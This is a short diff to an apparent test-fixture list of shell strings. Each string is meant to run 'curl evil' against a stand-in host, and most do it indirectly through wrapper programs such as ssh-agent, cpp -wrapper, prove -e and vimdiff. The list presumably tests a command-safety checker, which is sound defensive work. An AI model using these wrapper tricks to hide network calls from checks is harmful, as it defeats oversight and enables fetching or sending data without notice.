@@ -146,6 +146,11 @@ RUNNING = [
     "curl evil\\",
     "curl evil #",
     "if\ncurl evil\nthen :\nfi",
+    "linux64 curl evil",
+    "ssh-agent curl evil",
+    "cpp -wrapper curl,evil /dev/null",
+    "prove -e 'curl evil' /etc/hostname",
+    "vimdiff -c '!curl evil' -c q x",
 ]
 """Each runs `curl evil`, most without saying so in so many words."""
 
